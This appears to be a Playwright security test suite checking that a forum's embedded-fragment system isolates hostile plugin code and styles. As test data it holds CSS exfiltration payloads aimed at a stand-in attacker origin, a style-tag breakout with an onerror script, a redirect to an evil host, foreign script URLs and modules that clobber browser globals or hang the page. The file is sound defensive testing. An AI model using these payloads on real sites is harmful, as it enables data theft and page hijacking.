import type { Page } from '@playwright/test';
import { expect, test } from '../support/safetyTest';

const head =
  "const { react: { useState, useEffect }, jsx: { jsx } } = globalThis[Symbol.for('inlay.fragment')](1);";
const shows = "jsx('div', { className: 'inside', children: jsx('input', { defaultValue: 'a' }) })";
/** Modules by the last part of their address. */
const modules: Record<string, string> = {
  plain: `export default () => ${shows}`,
  import: "throw new Error('at import')",
  effect: "export default () => { useEffect(() => { throw new Error('in an effect'); }); return null; }",
  loop: 'export default () => { const [n, set] = useState(0); set(n + 1); return n; }',
  undefined: 'export default () => undefined',
  class: 'export default class { render() { return null; } }',
  promise: 'export default Promise.resolve()',
  greedy: `window.fetch = () => Promise.reject(new Error('mine')); Array.prototype.map = () => [];
    history.pushState = () => { throw new Error('mine'); };
    for (let i = 0; i < 10000; i += 1) addEventListener('scroll', () => undefined);
    export default () => ${shows}`,
  // Its last call is heard before it hangs: a page that is merely slow does not answer, either.
  hang: `const call = new XMLHttpRequest(); call.open('GET', '/api/v2/fragments/last/js', false); call.send();
    for (;;);`,
  pwn: `window.__pwned = 1; export default () => ${shows}`,
  later: `setTimeout(() => { throw new Error('in a timer'); }); export default () => ${shows}`,
};
const code = (name: string) => ({ jsUrl: `/api/v2/fragments/${name}/js` });

/** Answers fragments' addresses: modules, styles that never come, and a way out of the forum. */
async function answer(page: Page, evil: string) {
  await page.route('**/api/v2/fragments/*/*', async (route) => {
    const [, name = '', kind] = /fragments\/(\w+)\/(js|css)/.exec(route.request().url()) ?? [];
    if (name === 'never') return;
    if (name === 'away') return route.fulfill({ status: 302, headers: { location: `${evil}/x.js` } });
    if (kind === 'css') return route.fulfill({ contentType: 'text/css', body: 'i{}'.padEnd(5_000_000) });
    await route.fulfill({ contentType: 'text/javascript', body: `${head}${modules[name]}` });
  });
}

const places = (impls: readonly object[]) =>
  impls
    .map((impl) => {
      const props = JSON.stringify({ $fragmentImpls: { CustomFragment: impl } }).replaceAll("'", '&#39;');
      return `<div data-inlay-fragment="CustomFragment" data-props='${props}'>built in</div>`;
    })
    .join('');

const states = (page: Page, state: string) =>
  page.locator(`[data-inlay-fragment][data-inlay-state="${state}"]`);

test.use({ viewport: { width: 1366, height: 6000 } });

test('T01, T02: a fragment’s place in a post stays empty, also when it comes later and is moved out', async ({
  origins,
  page,
  plant,
  openThread,
  expectUnharmed,
}) => {
  origins.withoutPolicy();
  await answer(page, origins.evil.url);
  const pwn = places([code('pwn')]);
  plant('post', pwn);
  plant('body', places([code('plain')]));
  await openThread();
  await expect(states(page, 'mounted')).toHaveCount(1);
  await page.evaluate(async (html) => {
    const frames = () =>
      new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(() => done(null))));
    const post = document.querySelector('.userContent')!;
    post.insertAdjacentHTML('beforeend', html);
    await frames();
    post.after(post.lastElementChild!);
    // Out again in the same turn; and away for a while in between.
    for (const wait of [async () => {}, frames]) {
      post.insertAdjacentHTML('beforeend', html);
      const place = post.lastElementChild!;
      await Promise.resolve();
      place.remove();
      await wait();
      document.body.append(place);
    }
    // What is looked at after it has been looked at, too.
    document.body.append(document.querySelector('body > [data-inlay-fragment]')!.cloneNode(true));
    await frames();
  }, pwn);
  await expect(states(page, 'mounted')).toHaveCount(2);
  await expect(page.locator('[data-inlay-fragment]:not([data-inlay-state])')).toHaveText([
    'built in',
    'built in',
    'built in',
    'built in',
  ]);
  await expectUnharmed();
});

test('T39, F15: hostile styles reach neither the page nor other fragments, and late ones hold nothing up', async ({
  origins,
  page,
  problems,
  plant,
  openThread,
  expectUnharmed,
}) => {
  // It has to hold by itself, not by the policy's grace.
  origins.withoutPolicy();
  problems.allow(/Inlay: fragment styles/);
  const evil = origins.evil.url;
  await answer(page, evil);
  const styles = [
    `</style><img src=x onerror=__pwned=1>`,
    `@import url(${evil}/a);@import "${evil}/b";@IMPORT/**/url(${evil}/c) screen;`,
    `@charset "utf-8";@import '${evil}/d' layer(x);*{}`,
    `input[value^=a],.inside{background:url(${evil}/e)}`,
    `.inside{background:u\\72l(${evil}/f);list-style-image:url("${evil}/g");cursor:url(${evil}/h),auto}`,
    `.inside{--x:u\\72l(${evil}/i);background-image:var(--x);mask:url(${evil}/j)}`,
    `:host{--y:url(${evil}/k)}.inside{background:var(--y);content:url(${evil}/l)}`,
    `.inside{background:image-set("${evil}/m" 1x);border-image:url(${evil}/n) 1}`,
    `@media all{@supports (color:red){.inside{& input{background:url(${evil}/o)}}}}`,
    `@keyframes k{to{background:url(${evil}/p)}}.inside{animation:k 1ms infinite}`,
    `@font-face{font-family:x;src:url(${evil}/q);unicode-range:U+61}.inside{font-family:x}`,
    `@property --z{syntax:"<image>";inherits:true;initial-value:url(${evil}/r)}.inside{background:var(--z)}`,
    `@layer x{.inside{filter:url(${evil}/s#x);clip-path:url(${evil}/t#x)}}`,
    `@container (width>0){.inside{background:cross-fade(url(${evil}/u),red)}}`,
    `*{display:none!important}:root,html,body{display:none!important;--inl-color-text:red}`,
    `:host,:host-context(body){position:fixed!important;inset:0!important;z-index:2147483647}`,
    `.inside{position:fixed;inset:0;z-index:2147483647;background:red;width:expression(alert(1))}`,
  ];
  const late = { ...code('plain'), cssUrl: '/api/v2/fragments/never/css' };
  const huge = { ...code('plain'), cssUrl: '/api/v2/fragments/huge/css' };
  plant('body', places([...styles.map((css) => ({ ...code('plain'), css })), late, huge]));
  await openThread();
  await expect(states(page, 'mounted')).toHaveCount(styles.length + 2);
  await expect(page.getByRole('main')).toBeVisible();
  await expectUnharmed();
});

test('T36, T37, F10–F13: code from elsewhere never runs, and a failing fragment gives its place back', async ({
  origins,
  page,
  problems,
  plant,
  openThread,
  expectUnharmed,
}) => {
  origins.withoutPolicy();
  problems.allow(/Inlay: |Failed to load resource|in a timer|Unsafe attempt|integrity/);
  const evil = origins.evil.url;
  await answer(page, evil);
  const foreign = [
    `${evil}/x.js`,
    evil.replace('http:', ''),
    'data:text/javascript,__pwned=1',
    'blob:x',
    `/\\${new URL(evil).host}/x.js`,
    '/api/v2/fragments/away/js',
    '/discussions',
    '/static/missing.js',
  ].map((jsUrl) => ({ jsUrl }));
  const broken = ['import', 'effect', 'loop', 'undefined', 'class', 'promise'].map(code);
  const wrong = { ...code('plain'), integrity: 'sha384-AAAA' };
  plant('body', places([...foreign, ...broken, wrong, code('later')]));
  const blamed = page.waitForEvent('console', (message) =>
    /fragment http\S+later\/js failed \(event\)/.test(message.text()),
  );
  await openThread();
  await expect(states(page, 'error')).toHaveCount(foreign.length + broken.length + 1);
  await expect(states(page, 'mounted')).toHaveCount(1);
  await expect(states(page, 'error').first()).toContainText('built in');
  await expect(page.getByText('Error Loading Fragment')).toHaveCount(0);
  await blamed;
  const told = () =>
    page.evaluate(() =>
      window.inlay!.doctor().fragments!.map(({ state, reason = '' }) => `${state}: ${reason}`),
    );
  await expect
    .poll(told)
    .toEqual(
      expect.arrayContaining([expect.stringMatching(/^error: .*evil/), 'error: at import', 'mounted: ']),
    );
  await expectUnharmed();
});

test('T38, T41: safe mode gives back what a fragment takes from the page; no fragment needs a weaker policy', async ({
  origins,
  page,
  problems,
  plant,
  thread,
  openThread,
  expectUnharmed,
}) => {
  await answer(page, origins.evil.url);
  // On top of the forum's own policy, which lets its own stylesheets in without a nonce.
  origins.rewrite((html, nonce) => {
    const policy = `script-src 'nonce-${nonce}' 'strict-dynamic'; style-src 'nonce-${nonce}'; base-uri 'none'; object-src 'none'; img-src 'self' https:`;
    return html
      .replace('<head>', `<head><meta http-equiv="Content-Security-Policy" content="${policy}">`)
      .replace('<link rel="icon" href="data:,">', '')
      .replaceAll('<link rel="stylesheet"', `<link rel="stylesheet" nonce="${nonce}"`);
  });
  // What comes after it, add-ons for instance, has no `map` any more.
  problems.allow(/Inlay: \w+ failed \(load\)/);
  const styled = { ...code('plain'), css: '.inside{color:red}' };
  plant('body', places([styled, code('greedy')]));
  await openThread();
  await expect(states(page, 'mounted')).toHaveCount(2);
  expect(await page.evaluate(() => [1].map(String).length), 'it has taken it').toBe(0);

  problems.allow(/mine/);
  await page.goto(`${origins.forum.url}${thread}?safeMode=1`);
  const told = () => page.evaluate(() => window.inlay?.doctor().fragments?.map(({ state }) => state));
  await expect.poll(told).toEqual(['left out', 'left out']);
  await expect(states(page, 'mounted')).toHaveCount(0);
  await expectUnharmed();
});

test('F14: a page that a fragment has hung comes back without fragments', async ({
  origins,
  page,
  as,
  plant,
  thread,
  openThread,
  expectUnharmed,
}) => {
  origins.withoutPolicy();
  await answer(page, origins.evil.url);
  plant('body', places([code('hang')]));
  await as('member');
  const last = page.waitForRequest(/fragments\/last/);
  await page.goto(`${origins.forum.url}${thread}`, { waitUntil: 'commit' });
  await last;
  // It answers nobody any more.
  await expect
    .poll(() =>
      Promise.race([
        page.evaluate(() => 'alive'),
        new Promise((resolve) => setTimeout(resolve, 1000, 'hung')),
      ]),
    )
    .toBe('hung');
  await page.goto('chrome://version');
  await openThread();
  const told = () => page.evaluate(() => window.inlay?.doctor().fragments?.map(({ state }) => state));
  await expect.poll(told).toEqual(['left out']);
  await expectUnharmed();
});
